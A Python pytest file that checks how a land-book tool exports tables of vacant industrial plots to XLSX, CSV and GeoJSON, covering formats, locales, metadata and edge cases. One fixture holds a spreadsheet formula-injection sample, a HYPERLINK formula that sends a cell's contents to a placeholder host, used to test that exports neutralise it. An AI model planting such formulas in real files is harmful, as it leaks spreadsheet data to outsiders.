"""Files of what a page shows, re-opened with other programs and held against the table they came from."""

import io
import json
from datetime import date
from pathlib import Path

import openpyxl
import pandas as pd
import pyogrio
import pytest
import shapely

from geo.crs import to_wgs84
from occupancy.book import LandBook, load
from occupancy.questions.vacant_plots import VacancyFilter, filter_matching, vacant_plots
from occupancy.statement import Statement, state
from outputs.tables.table_export import ExportTable, export_table, to_csv, to_geojson, to_xlsx
from outputs.text.translations import translator
from tests.support.book_builder import edit, write_book

DAY = date(2023, 11, 17)
COLUMNS = ["parcel_id", "zone_id", "state", "document_area_m2", "vacant_ha", "divisible", "cleared_on"]
# Of this kind are the texts by which spreadsheets have been made to run programs.
FORMULA = '=HYPERLINK("http://x.example/?"&A1,"open")'


@pytest.fixture(scope="module")
def book(tmp_path_factory: pytest.TempPathFactory) -> LandBook:
    folder = tmp_path_factory.mktemp("book")
    return load(write_book(folder, parcels=edit(4, block=FORMULA, divisible="", asking_price_usd_m2="")))


@pytest.fixture(scope="module")
def statement(book: LandBook) -> Statement:
    return state(book, as_of=DAY)


@pytest.fixture(scope="module")
def plots(book: LandBook, statement: Statement) -> pd.DataFrame:
    """The vacant plots of z-a: a-1-04 and a-1-05 serviced, a-1-06 reserved, a-2-02 and a-2-03 cleared."""
    table = filter_matching(vacant_plots(statement), VacancyFilter(zones=("z-a",)))
    cleared = book.parcels.set_index("parcel_id")["cleared_on"]
    return table.assign(cleared_on=table["parcel_id"].map(cleared))


def made(statement: Statement, table: pd.DataFrame, language: str = "vi") -> ExportTable:
    say = translator(language)
    return export_table(statement, table, say, title="Lô đất trống", filters="KCN: Khu A")


def sheets(content: bytes) -> tuple[list[list[object]], dict[str, str]]:
    """The cells of the first sheet, and what the second says."""
    opened = openpyxl.load_workbook(io.BytesIO(content))
    rows, about = opened.worksheets
    said = {str(label): str(text) for label, text in about.iter_rows(values_only=True)}
    return [list(row) for row in rows.iter_rows(values_only=True)], said


def test_the_workbook_has_the_rows_shown_in_their_order_and_nothing_else(
    statement: Statement, plots: pd.DataFrame
) -> None:
    table = plots[COLUMNS].sort_values("parcel_id", ascending=False)
    rows, _ = sheets(to_xlsx(made(statement, table)))
    assert rows[0] == [
        "Mã lô đất",
        *made(statement, table).heads()[1:],
    ]
    assert [row[0] for row in rows[1:]] == ["a-2-03", "a-2-02", "a-1-06", "a-1-05", "a-1-04"]
    assert len(rows[0]) == len(COLUMNS)
    last = rows[-1]
    assert last[2:5] == ["Còn trống, đã có hạ tầng", 100_000.0, 10.0]
    assert last[5] == "có"
    assert last[6].date() == date(2014, 1, 1)


def test_numbers_and_days_of_the_workbook_are_numbers_and_days_with_formats(
    statement: Statement, plots: pd.DataFrame
) -> None:
    opened = openpyxl.load_workbook(io.BytesIO(to_xlsx(made(statement, plots[COLUMNS]))))
    cells = {cell.column: cell for cell in opened.worksheets[0][2]}
    assert [cells[at].data_type for at in (1, 4, 5, 7)] == ["s", "n", "n", "d"]
    assert [cells[at].number_format for at in (4, 5, 7)] == ["#,##0.0", "#,##0.00", "dd/mm/yyyy"]
    english = openpyxl.load_workbook(io.BytesIO(to_xlsx(made(statement, plots[COLUMNS], "en"))))
    assert english.worksheets[0].cell(2, 7).number_format == "d mmm yyyy"


def test_a_rate_keeps_its_side_of_the_line_in_the_workbook(statement: Statement) -> None:
    table = pd.DataFrame({"zone_id": ["z-a", "z-b"], "fill_rate_pct": [59.996, 60.04]})
    opened = openpyxl.load_workbook(io.BytesIO(to_xlsx(made(statement, table))))
    column = [opened.worksheets[0].cell(row, 2) for row in (2, 3)]
    assert [cell.value for cell in column] == [59.996, 60.04]
    assert [cell.number_format for cell in column] == ["#,##0.000", "#,##0.00"]


def test_a_text_like_a_formula_does_nothing_in_any_file(statement: Statement, plots: pd.DataFrame) -> None:
    table = plots[["parcel_id", "block"]]
    opened = openpyxl.load_workbook(io.BytesIO(to_xlsx(made(statement, table))))
    cell = opened.worksheets[0].cell(3, 2)
    assert (cell.value, cell.data_type, cell.hyperlink) == (FORMULA, "s", None)
    text = to_csv(made(statement, table)).decode("utf-8-sig")
    assert not any(part.startswith(("=", '"=')) for line in text.splitlines() for part in line.split(";"))
    assert "'=HYPERLINK" in text


@pytest.mark.parametrize("ending", ["xlsx", "csv", "geojson"])
def test_every_file_says_day_basis_filter_source_and_what_is_invented(
    book: LandBook, statement: Statement, plots: pd.DataFrame, ending: str
) -> None:
    sheet = made(statement, plots[COLUMNS])
    if ending == "xlsx":
        _, said = sheets(to_xlsx(sheet))
    elif ending == "csv":
        table = pd.read_csv(io.BytesIO(to_csv(sheet)), sep=";", dtype="str", encoding="utf-8-sig")
        said = dict(table.iloc[0])
    else:
        said = json.loads(to_geojson(sheet, book.parcels))["landbook"]
    assert said["Ngày"] == "17/11/2023"
    assert said["Bộ lọc"] == "KCN: Khu A"
    assert "Drawn by hand" in said["Nguồn"]
    assert said["Giả định"] == "Số liệu giả định"
    assert said["Cách tính"]
    assert said["Mã băm của bộ dữ liệu"] == statement.book_hash


def test_what_a_csv_says_of_its_rows_stands_once(statement: Statement, plots: pd.DataFrame) -> None:
    file = to_csv(made(statement, plots[COLUMNS]))
    table = pd.read_csv(io.BytesIO(file), sep=";", dtype="str", encoding="utf-8-sig")
    assert file.decode().count(statement.book_hash) == 1
    assert table["Mã băm của bộ dữ liệu"].isna().tolist() == [False] + [True] * (len(plots) - 1)


def test_the_csv_of_a_vietnamese_reader_opens_in_his_spreadsheet(
    statement: Statement, plots: pd.DataFrame
) -> None:
    table = plots[COLUMNS].assign(vacant_ha=[0.1 + 0.2, 1234.5, 1e-6, 3.0, float("nan")])
    content = to_csv(made(statement, table))
    assert content.startswith(b"\xef\xbb\xbf")
    read = pd.read_csv(io.BytesIO(content), sep=";", decimal=",", encoding="utf-8-sig")
    assert read.iloc[:, 4].tolist()[:4] == [0.3, 1234.5, 0.000001, 3.0]
    assert pd.isna(read.iloc[4, 4])
    assert read.iloc[:, 0].tolist() == table["parcel_id"].tolist()
    assert read.iloc[0, 6] == "2014-01-01"
    assert read.iloc[1, 5] == "chưa nêu"


def test_the_csv_of_an_english_reader_has_commas_and_points(
    statement: Statement, plots: pd.DataFrame
) -> None:
    read = pd.read_csv(io.BytesIO(to_csv(made(statement, plots[COLUMNS], "en"))), encoding="utf-8-sig")
    assert read["Vacant (ha)" if "Vacant (ha)" in read else read.columns[4]].tolist() == [10.0] * 5
    assert read.iloc[0, 2] == "Vacant, serviced"


def test_geojson_has_the_columns_of_the_dictionary_and_the_shapes_of_the_rows(
    book: LandBook, statement: Statement, plots: pd.DataFrame, tmp_path: Path
) -> None:
    table = plots[COLUMNS].iloc[[3, 0]]
    path = tmp_path / "plots.geojson"
    path.write_bytes(to_geojson(made(statement, table), book.parcels))
    read = pyogrio.read_dataframe(path)
    assert [*read.columns] == [*COLUMNS, "note", "geometry"]
    assert read["parcel_id"].tolist() == table["parcel_id"].tolist()
    assert read["state"].tolist() == ["vacant_cleared", "vacant_serviced"]
    assert read["vacant_ha"].tolist() == [10.0, 10.0]
    assert read["note"].tolist() == ["Số liệu giả định"] * 2
    assert read.crs.to_epsg() == 4326
    own = to_wgs84(book.parcels).set_index("parcel_id").geometry
    for plot, shape in zip(read["parcel_id"], read.geometry, strict=True):
        assert shapely.hausdorff_distance(shape, own[plot]) < 1e-8


def test_a_row_without_a_shape_stays_in_the_geojson(book: LandBook, statement: Statement) -> None:
    table = statement.zones[["zone_id", "leased_ha"]]
    held = json.loads(to_geojson(made(statement, table), book.zones, key="zone_id"))
    assert [one["properties"]["zone_id"] for one in held["features"]] == ["z-a", "z-b", "z-c"]
    assert held["features"][2]["geometry"] is None


def test_a_file_of_no_rows_has_its_headings_and_its_day(book: LandBook, statement: Statement) -> None:
    empty = made(statement, statement.parcels.head(0)[["parcel_id", "state", "vacant_ha"]])
    rows, said = sheets(to_xlsx(empty))
    assert len(rows) == 1
    assert said["Số dòng"] == "0"
    assert to_csv(empty).decode("utf-8-sig").count("\r\n") == 1
    assert json.loads(to_geojson(empty, book.parcels))["features"] == []


def test_the_same_table_gives_the_same_bytes(statement: Statement, plots: pd.DataFrame) -> None:
    sheet = made(statement, plots[COLUMNS])
    assert to_xlsx(sheet) == to_xlsx(sheet)


def test_a_text_too_long_for_a_cell_is_cut_and_says_so(statement: Statement) -> None:
    table = pd.DataFrame({"parcel_id": ["x" * 40_000], "block": ["\x0b & \U0001f3ed"]})
    rows, _ = sheets(to_xlsx(made(statement, table)))
    assert len(str(rows[1][0])) == 32_767
    assert str(rows[1][0]).endswith("…")
    assert str(rows[1][1]).endswith("& \U0001f3ed")
